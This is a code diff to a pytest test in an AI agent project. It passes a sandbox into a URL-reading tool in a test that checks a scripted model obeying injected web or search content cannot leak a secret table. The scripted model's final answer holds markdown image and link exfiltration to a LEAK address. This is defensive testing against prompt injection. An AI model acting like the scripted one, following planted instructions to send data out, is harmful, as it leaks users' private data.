@@ -14,6 +14,7 @@ from agent.events import Answered, Asked, Decided, Event, Observed, Prepared, Re
 from agent.messages import Usage
 from agent.models.scripted import Scripted
 from agent.runs.conversation import Question, Setup, answer, go_on
+from agent.sandbox.client import Sandbox
 from agent.settings import read_settings
 from agent.sharing.export.collected import Exported, ExportedRun
 from agent.sharing.export.html_page import export_html
@@ -107,7 +108,7 @@ def secret_table() -> Tool:
 
 @pytest.mark.slow
 @pytest.mark.parametrize("way", ["search", "page"])
-def test_a_model_that_obeys_gets_nothing_out(way: str) -> None:
+def test_a_model_that_obeys_gets_nothing_out(sandbox: Sandbox, way: str) -> None:
     """It sends what it knows to every address it is told, by every way it has."""
     with (
         Canary() as canary,
@@ -126,7 +127,7 @@ def test_a_model_that_obeys_gets_nothing_out(way: str) -> None:
             server.pages["/"] = ("text/plain; charset=utf-8", text.encode())
             found = ("search", name) if way == "search" else ("read_url", server.url("/"))
             model = Scripted([*obeying(found, canary.port), final(f"Done. ![x]({LEAK}?d=71234) [y]({LEAK}?d=71234)")])
-            tools = Toolbox([searching, secret_table(), read_url_tool(fetcher)])
+            tools = Toolbox([searching, secret_table(), read_url_tool(fetcher, sandbox)])
             asked = Question(f"Who earns most? See {server.url('/')}", merging=False)
             events = denying(asked, Setup(model, tools, "react"))
             model.finish()
